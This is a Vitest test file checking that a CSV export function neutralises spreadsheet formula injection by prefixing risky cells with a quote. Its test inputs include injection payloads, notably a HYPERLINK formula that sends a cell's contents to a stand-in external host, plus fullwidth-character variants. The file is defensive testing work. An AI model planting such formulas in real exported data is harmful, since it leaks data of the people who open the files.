import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../../services/formats/api-csv.ts';

/**
 * A text cell a spreadsheet would run as a formula is written as text: county files carry
 * names bidders choose, and a planted formula would run for every customer who exports them.
 */
describe('toCsv formula escaping', () => {
  const cells = (value: unknown) => (parse(toCsv(['v'], [{ v: value }])) as string[][])[1]![0];

  it.each([
    ['=HYPERLINK("https://x.example/?d="&S2,"Parcel")'],
    ['+1+2'],
    ['-2+3'],
    ['@SUM(A1)'],
    ['\tTAB'],
    ['\rCR'],
    ['＝1+1'],
    ['＋1'],
    ['－1'],
    ['＠SUM(A1)'],
  ])('prefixes %j with a quote', (text) => {
    expect(cells(text)).toBe(`'${text}`);
  });

  it('escapes each value of a joined array by its first character, as the cell is read', () => {
    expect(cells(['=1', 'b'])).toBe("'=1;b");
    expect(cells(['a', '=1'])).toBe('a;=1');
  });

  it('leaves numbers as numbers: a negative amount stays -5', () => {
    expect(cells(-5)).toBe('-5');
    expect(cells(-0.25)).toBe('-0.25');
    expect(cells(1234.56)).toBe('1234.56');
  });

  it('leaves ordinary text, booleans and nulls as they were', () => {
    expect(cells('SMITH, JOHN & MARY')).toBe('SMITH, JOHN & MARY');
    expect(cells('2024-000101')).toBe('2024-000101');
    expect(cells(true)).toBe('true');
    expect(cells(null)).toBe('');
  });
});
